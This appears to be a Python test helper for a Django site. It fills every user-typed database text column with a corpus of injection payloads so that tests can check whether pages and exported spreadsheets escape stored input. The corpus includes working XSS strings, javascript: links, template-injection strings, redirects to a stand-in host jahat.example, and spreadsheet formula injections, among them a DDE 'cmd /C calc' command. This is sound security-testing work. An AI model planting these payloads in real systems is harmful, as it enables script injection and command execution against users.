"""A world whose every text is an attack: markup for browsers, formulas for spreadsheets.

The texts are written past forms and triggers, so that pages and files are asked what they do
with them, whichever way they came in.
"""

import json
import re
from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import Error, models, transaction

from tests.owner import past_triggers

MARK = "jahat"
"""Every element of the corpus carries this attribute, and every script sets window.jahat."""

MARKUP = (
    "<b jahat>",
    "<script jahat>window.jahat=1;alert(1)</script>",
    "<img jahat src=x onerror=window.jahat=1>",
    '"><svg jahat onload=window.jahat=1>',
    "'><img jahat src=x onerror='window.jahat=1'>",
    '" jahat autofocus onfocus="window.jahat=1',
    "' jahat onmouseover='window.jahat=1",
    "</textarea></title></script></style><script jahat>window.jahat=1</script>",
    "--><script jahat>alert(1)</script><!--",
    "<a jahat href=javascript:alert(1)>x</a>",
    '<iframe jahat srcdoc="<script>parent.jahat=1</script>"></iframe>',
    "<math jahat><mtext><table><mglyph><style><img src onerror=window.jahat=1>",
    "<form jahat action=//jahat.example><button formaction=javascript:alert(1)>x",
    "<base jahat href=//jahat.example/><meta jahat http-equiv=refresh content=0;//jahat.example>",
    '<div jahat hx-get="//jahat.example" hx-trigger="load" hx-on:click="alert(1)">',
    "&lt;img jahat src=x onerror=window.jahat=1&gt;",
    "\\u003cimg jahat src=x onerror=window.jahat=1\\u003e",
    "{{ constructor.constructor('window.jahat=1')() }}{% debug %}",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "]]></script><script jahat>alert(1)</script>",
    "javascript:alert(1)//http://x.example/ https://jahat.example/\"onclick='alert(1)'",
    "<template jahat><script>window.jahat=1</script></template>",
    "\u202e<b jahat>\u2066",
    "</main></body></html><h1 jahat>",
)
STARTS = (
    "=1+1 ",
    "+1+1 ",
    "-1+1 ",
    "@SUM(1) ",
    "\t=1+1 ",
    "\r=1+1 ",
    "\n=1+1 ",
    "=cmd|' /C calc'!A0 ",
)
LINK = "https://jahat.example/\"><img/jahat/src=x/onerror=window.jahat=1>'onclick='alert(1)"

OURS = ("agencies", "innovations", "competitions", "notifications")
NOT_FOR_PEOPLE = re.compile(
    r"hash|sha256|token|secret|storage_name|signature|password|object_type|^path$|code$|^key$|^kind$"
    r"|^state$|payload|language|method|basis|metric|query|color|stopped_at|abbreviation|level|policy|parameters"
)
"""Columns by whose value the site decides: nobody types them."""


def poisoned() -> dict[str, int]:
    """Put the corpus into every text of every row; how many rows each column has."""
    done: dict[str, int] = {}
    with past_triggers() as cursor:
        for place, (model, column) in enumerate(columns()):
            name = f"{model._meta.label}.{column.name}"
            if isinstance(column, models.JSONField):
                done[name] = _poison_json(cursor, model, column, place)
                continue
            with_all = _statement(model, column, place)
            for sql, values in (with_all, _only_filled(with_all, column)):
                try:
                    with transaction.atomic():
                        cursor.execute(sql, values)
                except Error:
                    continue
                done[name] = cursor.rowcount
                break
    return done


def columns() -> Iterator[tuple[type[models.Model], Any]]:
    """Every column that holds what somebody typed."""
    for model in apps.get_models():
        if model._meta.app_label not in OURS:
            continue
        for column in model._meta.local_fields:
            is_text = isinstance(column, models.CharField | models.TextField | models.JSONField)
            is_special = isinstance(column, models.EmailField | models.SlugField)
            is_typed = is_text and not is_special and not column.choices
            if is_typed and not NOT_FOR_PEOPLE.search(column.name):
                yield model, column


def attack(place: int, most: int) -> str:
    """A formula and as much markup as fits, another choice at each place."""
    text = STARTS[place % len(STARTS)]
    for turn in range(len(MARKUP)):
        piece = MARKUP[(place + turn) % len(MARKUP)]
        if len(text) + len(piece) <= most:
            text += piece
    return text[:most]


def _statement(model: type[models.Model], column: Any, place: int) -> tuple[str, list[Any]]:
    table, name = f'"{model._meta.db_table}"', f'"{column.column}"'
    if isinstance(column, models.URLField):
        return f"UPDATE {table} SET {name} = %s WHERE {name} <> ''", [LINK]
    # The number keeps rows apart where they must differ.
    key = f'"{model._meta.pk.column}"'
    room = (column.max_length or 2000) - 8
    sql = f"UPDATE {table} SET {name} = left(%s, {room}) || ' ' || {key}::text"
    return sql, [attack(place, room)]


def _poison_json(cursor: Any, model: type[models.Model], column: Any, place: int) -> int:
    table, name, key = model._meta.db_table, column.column, model._meta.pk.column
    cursor.execute(f'SELECT "{key}", "{name}"::text FROM "{table}"')
    rows = cursor.fetchall()
    for number, (row, text) in enumerate(rows):
        worse = json.dumps(_worse(json.loads(text or "null"), attack(place + number, 2000)))
        sql = f'UPDATE "{table}" SET "{name}" = %s::jsonb WHERE "{key}" = %s'
        cursor.execute(sql, [worse, row])
    return len(rows)


def _worse(value: Any, text: str) -> Any:
    """The same with every sentence replaced; keys, states and instants are one word."""
    if isinstance(value, str):
        return text if " " in value.strip() else value
    if isinstance(value, list):
        return [_worse(one, text) for one in value]
    if isinstance(value, dict):
        return {key: _worse(one, text) for key, one in value.items()}
    return value


def _only_filled(statement: tuple[str, list[Any]], column: Any) -> tuple[str, list[Any]]:
    """For columns that must stay empty in some states."""
    sql, values = statement
    return (sql if " WHERE " in sql else f"{sql} WHERE \"{column.column}\"::text <> ''"), values
